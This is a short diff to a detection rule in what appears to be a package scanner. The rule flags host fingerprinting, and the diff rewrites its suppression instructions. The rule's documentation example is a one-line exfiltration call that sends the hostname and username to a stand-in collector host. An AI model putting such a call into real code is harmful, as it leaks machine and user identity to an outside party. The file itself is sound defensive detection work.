@@ -21,7 +21,7 @@ export default defineRule({
     references: ['https://attack.mitre.org/techniques/T1082/', 'https://attack.mitre.org/techniques/T1016/'],
     docs: {
       example: "https.get(`https://collector.example/?h=${os.hostname()}&u=${os.userInfo().username}`)",
-      suppress: 'Allow the package version in tollgate.config.json, or set `"rules": { "host-fingerprint": "off" }`.',
+      suppress: 'Turn the rule off for a run with `tollgate scan --disable-rule host-fingerprint`; its findings then neither show nor count toward the score.',
     },
   },
   create() {
